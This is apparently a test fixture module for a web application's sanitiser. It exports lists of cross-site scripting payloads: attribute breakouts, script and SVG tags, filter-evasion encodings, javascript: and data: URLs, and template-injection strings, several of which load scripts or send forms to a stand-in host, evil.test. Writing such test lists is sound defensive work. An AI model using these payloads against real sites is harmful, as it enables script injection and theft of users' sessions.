// What an attacker may write into the content. `ran` is what a browser would call if it took any of it for code, and
// hosts named evil.test answer with code that calls it too.

const code = 'ran(1)';

const attributes = [
  `" onload="${code}" onfocus="${code}" autofocus="" x="`,
  `' onmouseover='${code}' onclick='${code}' x='`,
  ` onclick=${code} tabindex=1 onfocus=${code} autofocus `,
  `"><img src=x onerror=${code}>`,
  `'><svg onload=${code}>`,
  '`onmouseover=' + code + '`',
  `x" style="background:url(https://evil.test/x.css)" y="`,
  `&quot; onfocus=&quot;${code}&quot; autofocus=&quot;`,
  `&#34;&#62;&#60;img src=x onerror=${code}&#62;`,
  `%22%3E%3Cimg src=x onerror=${code}%3E`,
];

const tags = [
  `<script>${code}</script>`,
  `<ScRiPt/x>${code}</sCrIpT >`,
  `<script src=https://evil.test/x.js></script>`,
  `</script><script>${code}</script>`,
  `</title></textarea></style></script></noscript></iframe></template><img src=x onerror=${code}>`,
  `<img src=x onerror="${code}">`,
  `<svg/onload=${code}>`,
  `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  `<svg><script>${code}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  `<iframe src="javascript:parent.${code}"></iframe>`,
  `<object data="javascript:${code}"></object><embed src="javascript:${code}">`,
  `<details open ontoggle=${code}><video><source onerror=${code}></video></details>`,
  `<body onload=${code}><input autofocus onfocus=${code}>`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<link rel=stylesheet href=https://evil.test/x.css>`,
  `<form action=https://evil.test/><input type=submit autofocus></form>`,
  `<!--<img src="--><img src=x onerror=${code}>//">`,
  `--><script>${code}</script><!--`,
  `--!><img src=x onerror=${code}>`,
  `<!--`,
  `<![CDATA[><img src=x onerror=${code}>]]>`,
  `]]><script>${code}</script>`,
  `<?xml version="1.0"?><?php ${code} ?>`,
  `<<script>${code}//<</script>`,
  `<img src=x onerror=\u0000${code}>`,
  `<\u0000script>${code}</script>`,
  `\u00bcscript\u00be${code}\u00bc/script\u00be`,
  `<scr\u0131pt>${code}</scr\u0131pt>`,
  `<div style="width:expression(${code})">`,
  `\u202e<script>${code}</script>\u202c`,
  `\u2028${code}\u2029`,
];

export const hostileAddresses = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `java\nscript\r:${code}`,
  `\u0001\u001f javascript:${code}`,
  ` \n javascript:${code}`,
  `javascript&colon;${code}`,
  `javascript&#58;${code}`,
  `javascript&#x0000003a${code}`,
  `&#106;avascript:${code}`,
  `&Tab;java&NewLine;script:${code}`,
  `javascript://evil.test/%0a${code}`,
  `javascript:/*--></title></style></textarea></script>*/${code}`,
  `vbscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:text/javascript,${code}`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  `blob:https://katern.test/x`,
  `view-source:javascript:${code}`,
  `feed:javascript:${code}`,
  `//evil.test/x.js`,
  `\\\\evil.test\\x.js`,
  `/\t/evil.test/x.js`,
  `https:evil.test/x.js`,
  `https://evil.test/x.js`,
  `x, javascript:${code} 2x`,
  `0;url=javascript:${code}`,
  `:${code}`,
  `script:${code}`,
  `colon;${code}`,
];

const templates = [
  `{{ 7*7 }}{% include 'x' %}{# x #}`,
  `{{ ''|safe }}{% raw %}`,
  "${alert`1`}",
  `"}};${code};//`,
  `");${code};//`,
  `';${code};//`,
  `\\";${code};//`,
  `</script \n><script>${code}</script>`,
  `*/${code}/*`,
  `url(javascript:${code})`,
  `}</style><script>${code}</script>`,
];

// What anybody may write: each place has to make of the hostile texts what it makes of some of these.
export const harmless = ['a', 'een twee', 'https://katern.test/a', 'zie https://katern.test/a of a@katern.test.', '/a b'];

export const hostile = [...attributes, ...tags, ...hostileAddresses, ...templates];
